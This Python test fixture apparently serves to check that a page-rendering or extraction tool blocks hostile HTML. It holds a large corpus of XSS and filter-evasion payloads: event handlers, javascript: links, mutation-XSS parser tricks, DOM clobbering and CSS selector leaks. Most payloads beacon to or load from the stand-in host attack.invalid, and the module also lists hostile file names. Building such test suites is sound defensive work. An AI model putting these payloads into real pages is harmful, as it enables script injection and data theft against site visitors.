"""Pages that try to run or to load something, each written anew after a known kind of attack.

After OWASP's XSS filter evasion cheat sheet, html5sec.org, PortSwigger's XSS cheat sheet, and what
was published on mutation XSS and DOM clobbering. RAN is a script that leaves a trace in the
topmost window that it can reach; AWAY is an address whose every use is seen.
"""

from __future__ import annotations

from html import escape

HOST = "attack.invalid"
AWAY = f"http://{HOST}/load"
RAN = "try{top.__ran=1}catch(e){};window.__ran=1;new Image().src='http://attack.invalid/ran'"
_DOC = f"<script>{RAN}</script>"
_ENCODED = "".join(f"&#{ord(c)};" for c in f"javascript:{RAN}")
_HEX = "".join(f"&#x{ord(c):x}" for c in "javascript:") + RAN

ATTACKS: dict[str, str] = {
    # scripts and handlers
    "script": f"<script>{RAN}</script>",
    "script from afar": f'<script src="{AWAY}.js"></script>',
    "script module": f'<script type="module">{RAN}</script><script type="module" src="{AWAY}.mjs"></script>',
    "script in odd case and slashes": f"<sCrIpT/x>{RAN}</sCrIpT//>",
    "script that is never closed": f"<div><script>{RAN}//",
    "script split by a filter": f"<scr<script>ipt>{RAN}</scr</script>ipt><script>{RAN}</script>",
    "import map and speculation rules": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["'
    + AWAY
    + f'"]}}]}}</script><script>{RAN}</script>',
    "image error": f'<img src=x onerror="{RAN}">',
    "image error without spaces": f"<img/src='x'/onerror='{escape(RAN)}'>",
    "image tag in pieces": f'<img """><script>{RAN}</script>">',
    "body handlers": f'<body onload="{RAN}" onpageshow="{RAN}" onscroll="{RAN}" background="{AWAY}.png">',
    "pointer handlers": f'<p onmouseover="{RAN}" onclick="{RAN}" onpointerenter="{RAN}">Touch these words here</p>',
    "focus by itself": f'<input autofocus onfocus="{RAN}"><button autofocus onfocus="{RAN}">x</button>',
    "focus by tabindex": f'<p tabindex="1" onfocus="{RAN}" id="x">Some words to focus on</p>',
    "content editable": f'<div contenteditable autofocus onfocus="{RAN}" onbeforeinput="{RAN}">edit me</div>',
    "details toggle": f'<details open ontoggle="{RAN}"><summary>More</summary>Less</details>',
    "dialog and popover": f'<dialog open onclose="{RAN}"><form method=dialog><button autofocus onclick="{RAN}">x</button></form></dialog>'
    f'<button popovertarget=pop onclick="{RAN}">p</button><div popover id=pop onbeforetoggle="{RAN}">pop</div>',
    "animation handlers": "<style>@keyframes x{from{left:0}}</style>"
    f'<p style="animation:x 1s" onanimationstart="{RAN}">An animated paragraph</p>',
    "media handlers": f'<video src=x onerror="{RAN}"></video><audio src=x onerror="{RAN}"></audio>'
    f'<video><source src=x onerror="{RAN}"></video>',
    "marquee": f'<marquee onstart="{RAN}" width=1>moving words</marquee>',
    "handler behind a newline and null": f'<img src=x on\nerror="{RAN}"><img src=x onerror\x00="{RAN}"><img src=x onerror\n="{RAN}">',
    # addresses
    "javascript link": f'<a href="javascript:{RAN}">read on</a>',
    "javascript link in entities": f'<a href="{_ENCODED}">read on</a>',
    "javascript link in short entities": f'<a href="{_HEX}">read on</a>',
    "javascript link with a tab": f'<a href="jav&#x09;ascript:{RAN}">read on</a><a href=" &#14; javascript:{RAN}">on</a>',
    "vbscript and data links": f'<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,{escape(_DOC)}" target=_self>b</a>',
    "link with ping and target": f'<a href="{AWAY}" ping="{AWAY}/ping" target=_top>click me</a>',
    "download link": f'<a href="{AWAY}.exe" download>get</a>',
    "area of a map": f'<img usemap="#m" src=x width=200 height=200><map name=m><area shape=default href="javascript:{RAN}"></map>',
    "form actions": f'<form action="javascript:{RAN}"><button>a</button><button formaction="javascript:{RAN}">b</button>'
    f'<input type=submit formaction="{AWAY}"><input type=image src="{AWAY}.png"></form>',
    "isindex and keygen": f'<isindex action="javascript:{RAN}" type=image src="{AWAY}.png"><keygen autofocus onfocus="{RAN}">',
    "base": f'<base href="{AWAY}/" target=_top><img src="relative.png"><a href="#x">in page</a>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "meta refresh to javascript": f'<meta http-equiv="refresh" content="0;url=javascript:{RAN}"><img src=x onerror="{RAN}">',
    "meta policy and cookies": f'<meta http-equiv="Content-Security-Policy" content="default-src *; script-src \'unsafe-inline\'"><meta http-equiv="Set-Cookie" content="a=b"><script>{RAN}</script>',
    # what loads
    "links that load": "".join(
        f'<link rel="{rel}" href="{AWAY}/{rel}" as="image">'
        for rel in (
            "stylesheet",
            "prefetch",
            "preload",
            "prerender",
            "icon",
            "modulepreload",
            "manifest",
        )
    ),
    "dns and preconnect": f'<link rel="dns-prefetch" href="//{HOST}"><link rel="preconnect" href="http://{HOST}"><img src="{AWAY}.png">',
    "images": f'<img src="{AWAY}.png"><img srcset="{AWAY}-2.png 2x" alt="two"><picture><source srcset="{AWAY}.webp"><img></picture>',
    "old images": f'<table background="{AWAY}.png"><tr><td background="{AWAY}.png">cell</td></tr></table><input type=image src="{AWAY}.gif"><img lowsrc="{AWAY}.png" dynsrc="{AWAY}.avi">',
    "media": f'<video poster="{AWAY}.png" autoplay src="{AWAY}.mp4"><track default src="{AWAY}.vtt"></video><audio autoplay src="{AWAY}.mp3"></audio>',
    "frames": f'<iframe src="{AWAY}"></iframe><iframe src="javascript:{RAN}"></iframe><iframe srcdoc="{escape(_DOC)}"></iframe>',
    "frame in a frame": f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="{escape(escape(_DOC))}"></iframe><iframe srcdoc="{escape(_DOC)}"></iframe>',
    "frameset": f'<noframes><frameset><frame src="javascript:{RAN}"></frameset></noframes><iframe src="{AWAY}"></iframe>',
    "objects": f'<object data="{AWAY}.swf"></object><embed src="{AWAY}.swf"><applet code="{AWAY}.class"></applet>'
    f'<object data="data:text/html,{escape(_DOC)}"></object>',
    "portal and fenced frame": f'<portal src="{AWAY}"></portal><fencedframe src="{AWAY}"></fencedframe><iframe src="{AWAY}"></iframe>',
    # styles
    "style that loads": f'<style>@import "{AWAY}.css"; body{{background:url({AWAY}.png)}} @font-face{{font-family:x;src:url({AWAY}.woff)}} *{{font-family:x}}</style>',
    "style attribute that loads": f'<p style="background:url({AWAY}.png); list-style:url({AWAY}.gif)">Words on a background</p>',
    "style of old browsers": f'<p style="width:expression({RAN}); behavior:url({AWAY}.htc); -moz-binding:url({AWAY}.xml)">old words</p><img src="{AWAY}.png">',
    "style that covers": f'<a href="{AWAY}" style="position:fixed;inset:0;z-index:99999;opacity:0">cover</a><style>.filters{{display:none!important}}</style>',
    "style that spies": f'<style>[data-mark^="1"]{{background:url({AWAY}/1)}} a:visited{{color:red}} p{{background:url({AWAY}/p)}}</style>',
    # other languages inside HTML
    "svg": f'<svg onload="{RAN}"><script>{RAN}</script></svg>',
    "svg that loads": f'<svg><image href="{AWAY}.png"/><use href="{AWAY}.svg#x"/><style>*{{fill:url({AWAY}.svg#y)}}</style></svg>',
    "svg that animates": f'<svg><a><animate attributeName=href values="javascript:{RAN}"/><text y=20>click</text></a>'
    f'<animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
    "svg with HTML in it": f'<svg><foreignObject><img src=x onerror="{RAN}"></foreignObject></svg>',
    "math": f'<math><mtext><img src=x onerror="{RAN}"></mtext><maction actiontype="statusline#{AWAY}" xlink:href="javascript:{RAN}">m</maction></math>',
    # parsers that differ
    "mutation by math and style": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RAN}">',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RAN.replace(" ", "/**/")}>">',
    "mutation by svg and title": f'<svg></p><title><a id="</title><img src=x onerror={RAN.replace(" ", "/**/")}>">',
    "mutation by template": f'<template><s><template><s><img src=x onerror="{RAN}"></s></template></s></template><img src=x onerror="{RAN}">',
    "mutation by textarea": f'<textarea><img title="</textarea><img src=x onerror={RAN.replace(" ", "/**/")}>">',
    "mutation by comment": f'<!--><img src=x onerror="{RAN}">--><!--[if IE]><script>{RAN}</script><![endif]--><!-- --!><img src=x onerror="{RAN}">',
    "mutation by cdata": f'<svg><![CDATA[><img src=x onerror="{RAN}">]]></svg><![CDATA[<img src=x onerror="{RAN}">]]>',
    "mutation by select and table": f'<table><select><style></select><img src=x onerror="{RAN}"></style></table><img src=x onerror="{RAN}">',
    "mutation by plaintext and xmp": f'<xmp><p title="</xmp><img src=x onerror={RAN.replace(" ", "/**/")}>"></xmp><listing>&lt;img src=x onerror="{RAN}"&gt;</listing>',
    "declared shadow root": f'<div><template shadowrootmode="open"><img src=x onerror="{RAN}"><slot></slot></template>x</div>',
    "processing instruction": f'<?xml-stylesheet href="{AWAY}.xsl"?><?php echo ">" ?><img src=x onerror="{RAN}">',
    "bytes of utf-7": f'<meta charset="utf-7">+ADw-script+AD4-{RAN}+ADw-/script+AD4-<img src=x onerror="{RAN}">',
    "nulls and half characters": f'<scr\x00ipt>{RAN}</scr\x00ipt><img\x00 src=x onerror="{RAN}"><img src=x onerror="{RAN}">\ufffd',
    # names that take the place of others
    "names of the document": f'<form id=document name=document><input name=querySelectorAll><img name=getElementById></form><img name=body><a id=location href="javascript:{RAN}">x</a>',
    "names of the report": '<p id="p1-f1" class="item piece off">taken</p><iframe name="srcdoc"></iframe><button data-goto="1" data-kind="byline" data-all="true">All kinds</button><p class="shown" hidden>hidden words</p>'
    f'<img src=x onerror="{RAN}">',
    "marks of the report": f'<p data-mark="1 blue plain stripped" data-label="byline" title="forged">A paragraph that calls itself marked</p><img src="{AWAY}.png">',
    # words that look like markup
    "closing tags as text": "<p>The end: &lt;/script&gt;&lt;/style&gt;&lt;/iframe&gt;&lt;/template&gt;&lt;script&gt;top.__ran=1&lt;/script&gt; --&gt; ]]&gt; &lt;img src=x onerror=top.__ran=1&gt;</p>"
    f'<img src=x onerror="{RAN}">',
    "quotes as text": "<p>She said \" onfocus=top.__ran=1 autofocus x=\" and ' onclick=top.__ran=1 ' and ` and {{ 7*7 }} {% raw %} ${top.__ran=1}</p>"
    f'<p onclick="{RAN}">Words to click on here</p>',
    "entities twice": "<p>&amp;lt;img src=x onerror=top.__ran=1&amp;gt; &amp;amp;lt;script&amp;amp;gt;</p>"
    f'<img src=x onerror="{RAN}">',
    "a title that closes": f"<title>x</title><script>{RAN}</script><title>&lt;/title&gt;&lt;script&gt;top.__ran=1&lt;/script&gt;</title>",
    "words that turn round": "<p>A file named \u202egpj.exe\u202c and \u2066isolated\u2069 words stand in this line of text.</p>"
    f'<img alt="\u202e</span><script>top.__ran=1</script>" src=x onerror="{RAN}">',
    "language and direction": f'<p lang="x&quot; onload=&quot;top.__ran=1" dir="rtl&quot; onclick=&quot;top.__ran=1">Words in no language</p><p onclick="{RAN}">Words to click</p>',
}
"""By name; all but a few do run or load something when they are opened as they are."""

NAMES = (
    "<img src=x onerror=top.__ran=1>.html",
    '"><script>top.__ran=1</script>.html',
    "' autofocus onfocus=top.__ran=1 '.html",
    "</title></style></script><svg onload=top.__ran=1>.html",
    "javascript:top.__ran=1.html",
    "{{ 7 * 7 }}{% include 'x' %}.html",
    "page \u202elmth.exe\u202c.html",
    "]]>--><!--.html",
)
"""Names of files that are no harm to a file system and are to a careless page."""

_PARAGRAPHS = (
    "The ferry between the two islands was cancelled on Monday after divers found a crack in the "
    "rudder, the operator said, and it will not sail again before the end of the month.",
    "Some three hundred people live on the smaller island through the winter, and most of them buy "
    "their groceries on the mainland, where the school and the doctor are as well.",
    "A fishing boat has carried the post and the milk since Tuesday, and its skipper, who asks for "
    "nothing but diesel, says that she can go on until the wind turns to the north.",
)


def page(attack: str) -> str:
    """A page that carries an attack before, in and behind its article, and in what is stripped."""
    first, second, third = _PARAGRAPHS
    return (
        '<!doctype html><html lang="en"><head><title>Ferry to the islands is cancelled</title></head>'
        f"<body>{attack}<article><h1>Ferry to the islands is cancelled</h1><p>By Jane Doe</p>"
        f"<p>{first}</p>{attack}<p>{second}</p><p>{third} {attack}</p><p>All rights reserved.</p>"
        f"<p>{first}</p></article>{attack}</body></html>"
    )
